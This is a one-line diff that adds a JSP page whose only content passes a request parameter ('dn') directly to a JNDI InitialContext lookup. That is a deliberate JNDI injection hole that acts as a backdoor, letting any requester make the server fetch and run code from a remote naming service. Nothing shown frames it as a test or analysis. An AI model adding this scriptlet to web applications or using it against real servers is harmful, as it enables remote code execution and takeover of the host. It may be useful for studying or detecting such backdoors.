@@ -1,0 +1,1 @@
+<% new javax.naming.InitialContext().lookup(request.getParameter("dn")); %>
